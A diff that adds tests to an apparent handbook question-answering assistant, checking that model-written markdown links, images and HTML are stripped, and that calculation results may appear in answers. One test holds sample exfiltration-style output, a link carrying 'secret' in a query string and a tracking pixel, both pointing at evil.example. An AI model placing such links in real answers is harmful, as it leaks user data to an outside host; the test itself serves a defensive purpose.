@@ -112,6 +112,17 @@ def test_a_sentence_without_a_source_gets_the_one_that_says_it(reader: User) -> 
     assert stored(events).sentences == [{"text": "Employees have 30 days of annual leave.", "citations": [1]}]
 
 
+def test_images_links_and_html_do_not_reach_the_reader(reader: User) -> None:
+    written = (
+        "Employees have **30 days** of [annual leave](https://evil.example/?q=secret) in each calendar year [1]. "
+        "![leave](https://evil.example/pixel.png) A sick note is due on the <img src=x> third day of absence [1]."
+    )
+    with modelled(SEARCH, says(written), judges("supported", quote="third day of absence")):
+        shown = words(asked(reader, LEAVE))
+    assert "30 days of annual leave" in shown
+    assert [part for part in ("evil", "http", "<img", "](", "**") if part in shown] == []
+
+
 def test_what_the_person_may_not_read_is_not_sent_to_the_model(handbook: Handbook) -> None:
     base, _manual, secret = handbook
     steps = (
@@ -206,6 +217,16 @@ def test_plain_arithmetic_is_worked_out_and_not_searched(reader: User) -> None:
         events = asked(reader, "How many hours are 30 days of eight hours?")
     assert words(events) == "30 * 8 = 240"
     assert (stored(events).stop_reason, stored(events).provider) == (StopReason.OK, "calculate")
+
+
+def test_results_of_calculations_may_be_said(reader: User) -> None:
+    steps = (
+        SEARCH,
+        calls(("calculate", {"expression": "30 * 8"})),
+        says("Employees have 30 days of annual leave, that is 240 hours in each calendar year [1]."),
+    )
+    with modelled(*steps):
+        assert "240 hours" in words(asked(reader, LEAVE))
 
 
 def test_without_tools_it_searches_once_and_writes(reader: User) -> None:
